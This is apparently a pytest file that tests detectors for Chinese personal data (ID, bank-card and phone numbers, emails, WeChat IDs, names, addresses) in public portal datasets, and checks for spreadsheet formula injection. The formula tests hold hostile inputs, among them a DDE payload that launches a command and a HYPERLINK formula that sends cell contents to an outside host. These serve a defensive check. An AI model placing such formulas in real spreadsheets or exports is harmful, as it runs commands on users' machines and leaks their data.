"""Detectors of personal data: every kind is found in its disguises, and ordinary official words are left alone.

Specimens are the standards' own or invented with a sound check digit; none belongs to anybody.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from generator.definitions.personal import (
    KINDS,
    credit_code,
    faults,
    id_check,
    luhn,
    may_be_a_name,
    personal_kinds,
    runs_as_formula,
)
from generator.definitions.screen import screen_portal, walk
from generator.definitions.settings import read_plain
from tests.support import DATASETS, ROOT

PORTALS = [*sorted(path.parent for path in DATASETS.glob("*/portal.yml")), ROOT / "tests" / "spec" / "portal"]


def test_check_digits_of_the_standards() -> None:
    # GB 11643 prints the first as a specimen; the others follow from its rule.
    assert id_check("11010519491231002") == "X"
    assert id_check("00000019900101001") == "8"
    assert id_check("11010119000229001") == "1"
    assert credit_code("91350100M000100Y43")
    assert not credit_code("91350100M000100Y44")
    assert luhn("6222020000000000000")
    assert not luhn("6222020000000000001")


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("11010519491231002X", "id_number"),
        ("11010519491231002x", "id_number"),
        ("证件 110105 19491231 002X 已核", "id_number"),
        ("110105-19491231-002X", "id_number"),
        ("１１０１０５１９４９１２３１００２Ｘ", "id_number"),
        ("110105491231002", "id_number"),
        ("91350100M000100Y43", "credit_code"),
        ("6222020000000000000", "bank_card"),
        ("6222 0200 0000 0000 000", "bank_card"),
        ("13800138000", "mobile"),
        ("电话13800138000。", "mobile"),
        ("+86 138 0013 8000", "mobile"),
        ("138-0013-8000", "mobile"),
        ("138\u200b0013\ufeff8000", "mobile"),
        ("１３８００１３８０００", "mobile"),
        ("幺三八零零幺三八零零零", "mobile"),
        ("壹叁捌〇〇壹叁捌〇〇〇", "mobile"),
        ("0535-8212345转801", "landline"),
        ("(010) 6212 3456", "landline"),
        ("鲁FD12345", "plate"),
        ("鲁F·12345", "plate"),
        ("京A12345警", "plate"),
        ("zhang.san@example.org", "email"),
        ("QQ：12345678", "qq"),
        ("QQ群 123456789", "qq"),
        ("微信号：zhang_san", "wechat"),
        ("微信zhangsan88", "wechat"),
        ("12号楼3单元502室", "house"),
        ("十二号楼", "house"),
        ("3栋", "house"),
        ("投诉人张三，反映噪声", "name"),
        ("联系人：欧阳明", "name"),
        ("感谢张先生", "name"),
        ("李某", "name"),
        ("138、0013、8000", "mobile"),
        ("138，0013，8000", "mobile"),
        ("1、3、8、0、0、1、3、8、0、0、0", "mobile"),
        ("一三八、零零一三、八零零零", "mobile"),
        ("138*0013*8000", "mobile"),
        ("1\ufe0f\u20e33\ufe0f\u20e38\ufe0f\u20e300138000", "mobile"),
        ("110105、19491231、002X", "id_number"),
        ("护照号 E12345678", "passport"),
        ("持EA1234567入境", "passport"),
        ("G12345678", "passport"),
        ("港澳通行证：C12345678", "passport"),
        ("台胞证号码01234567", "passport"),
        ("zhang[at]163.com", "email"),
        ("zhangsan（at）example.org", "email"),
        ("lihua [at] example [dot] org", "email"),
        ("lihua#qq.com", "email"),
        ("lihua艾特163点com", "email"),
        ("lihua at 126 dot com", "email"),
        ("wxid_ab12cd34ef", "wechat"),
        ("加v信zhang8899", "wechat"),
        ("V信：zhang_san", "wechat"),
        ("薇信号 zhang8899", "wechat"),
        ("wx：lisi2020", "wechat"),
        ("幸福路12号", "house"),
        ("家住文化街108号2单元", "house"),
        ("3栋502", "house"),
        ("五〇二室", "house"),
        ("住三单元", "house"),
        ("12号楼3单元502室外墙渗水", "house"),
        ("高女士来电", "name"),
        ("马师傅", "name"),
        ("李大爷反映", "name"),
        ("张建国大爷", "name"),
        ("尉迟先生", "name"),
        ("东方女士", "name"),
        ("陈阿姨", "name"),
        ("黄老师", "name"),
        ("高某", "name"),
        ("联系人：高峰", "name"),
        ("投诉人：马强，", "name"),
        ("诉求人：端木华", "name"),
        ("业主王芳，", "name"),
    ],
)
def test_found(text: str, kind: str) -> None:
    assert kind in personal_kinds(text)


@pytest.mark.parametrize(
    "text",
    [
        "110105194912310021",  # wrong check digit
        "000000199001010018",  # a sound check digit, and no such region
        "110101190002290011",  # a sound check digit, and no such day
        "工单号 20250113800138000",
        "6222020000000000001",
        "91350100M000100Y44",
        "12345",
        "市民热线 12345、110、119",
        "95588",
        "400-123-4567",
        "0535-12345",
        "2021-01..2022-12",
        "2,355 人，共 40,915 件",
        "370783001001",  # a community's code
        "第三网格",
        "办公室",
        "会议室和储藏室",
        "八一街道",
        "三里屯街道",
        "社交账号「@坪山」",
        "WeChat mini-program",
        "更新 STREET 20",
        "D001",
        "听取当事人陈述，再作答复",
        "申请人可以补充材料",
        "主任同志",
        "对于某些问题",
        "二单元改造工程",
        "三室一厅",
        "雷同志",
        "内容雷同志愿服务除外",
        "向雷锋同志学习",
        "3号楼加装电梯",
        "12栋外墙维修",
        "新建公厕三座",
        "桥梁12座",
        "业务三室",
        "青岛路12号附近路灯不亮",
        "八一街道2号文件",
        "地铁2号线",
        "各位先生、女士",
        "对方女士",
        "周边大爷大妈",
        "班主任老师",
        "环卫师傅",
        "施工师傅",
        "公安某科",
        "相关某单位",
        "经办人：安全科",
        "联系人：高新区",
        "第138、139、140号提案",
        "2023、2024、2025",
        "1、2、3、4、5、6、7、8、9、10、11",
        "G20240305",
        "威信高",
        "微信公众号",
        "微信小程序 2024",
        "价格 3@5.5",
        "https://creativecommons.org/licenses/by/4.0/",
        "",
    ],
)
def test_left_alone(text: str) -> None:
    assert faults(text) == ()


@pytest.mark.some(3)
@pytest.mark.parametrize("sign", ["a", "1", "a.", "@a", "王", "一", "路1", "微信a", "1、", "何先", " ", "京A"])
def test_a_text_costs_its_length_and_no_more(sign: str) -> None:
    # Whatever repeats without bound from every place of such a text would never end.
    assert "credit_code" not in personal_kinds(sign * 300_000)


@given(st.text(alphabet="0123456789", min_size=8, max_size=8))
def test_a_number_inside_a_longer_one_is_not_a_telephone(digits: str) -> None:
    assert "mobile" not in personal_kinds(f"138{digits}77")
    assert "mobile" in personal_kinds(f"138{digits}")


@given(st.integers(0, 10**17 - 1))
def test_one_wrong_digit_never_passes_mod_11_2(body: int) -> None:
    digits = f"{body:017d}"
    changed = f"{(int(digits[0]) + 1) % 10}{digits[1:]}"
    assert id_check(digits) != id_check(changed)


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://example.org?x="&A1,"查看")',
        "+1+2",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        " =1+1",
        "\u200b=1+1",
        "＝１＋１",
        "－２＋３",
        "物业办;=1+1",
    ],
)
def test_formulas(text: str) -> None:
    assert runs_as_formula(text)
    assert "formula" in faults(text)


@pytest.mark.parametrize("text", ["", "物业局", "1+1=2", "「=1+1」", "满意率为 98%；-2 个百分点", "A-1"])
def test_no_formulas(text: str) -> None:
    assert not runs_as_formula(text)


@pytest.mark.parametrize("folder", PORTALS, ids=lambda path: path.name)
def test_nothing_is_found_in_the_portals_of_the_repository(folder: Path) -> None:
    assert screen_portal(folder) == []


def test_nothing_is_found_in_the_standard_indicators() -> None:
    paths = sorted((DATASETS / "indicators").glob("*.yml"))
    assert paths
    for path in paths:
        settings, _ = read_plain(path, path.name)
        assert settings is not None
        assert not [place for place, text in walk(settings.data) if faults(text)], path.name


def test_every_kind_has_a_name_in_each_language() -> None:
    assert all(words["zh"] and words["en"] for words in KINDS.values())


@pytest.mark.parametrize(
    ("text", "named"),
    [
        *(("王小明", True), ("李明", True), ("张某", True), ("值班13800138000", True)),
        *(("数据岗", False), ("分管副主任", False), ("王台村村委会", False)),
    ],
)
def test_a_short_text_may_be_a_name(text: str, named: bool) -> None:
    assert may_be_a_name(text) is named
